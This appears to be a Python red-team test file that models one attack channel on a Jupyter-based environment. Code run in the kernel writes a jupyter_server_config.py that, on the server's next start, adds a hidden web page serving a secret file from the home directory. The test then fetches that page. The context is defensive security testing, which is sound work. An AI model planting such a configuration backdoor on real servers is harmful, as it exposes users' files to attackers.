from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

WRITE = '''
import os
from jupyter_core.paths import jupyter_config_dir
os.makedirs(jupyter_config_dir(), exist_ok=True)
open(os.path.join(jupyter_config_dir(), "jupyter_server_config.py"), "w").write("""
import os, tornado.web
class Carried(tornado.web.RequestHandler):
    def get(self):
        self.write(open(os.path.expanduser("~/config.bin"), "rb").read())
from jupyter_server.serverapp import ServerWebApplication
old = ServerWebApplication.init_handlers
def init_handlers(self, services, settings):
    return [(settings["base_url"] + "carried-config", Carried), *old(self, services, settings)]
ServerWebApplication.init_handlers = init_handlers
""")
'''


def plant(site: Target, secret: bytes) -> None:
    site.run(WRITE)


@channel(
    "server-config",
    "The server replaced: its configuration, written by a kernel, adds a page of the attacker's at the next start",
    closed_by="the desk runs code and configuration of its read-only image alone",
    plant=plant,
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run("import os; open(os.path.expanduser('~/config.bin'), 'wb').write(secret);")
    return site.get("carried-config").body
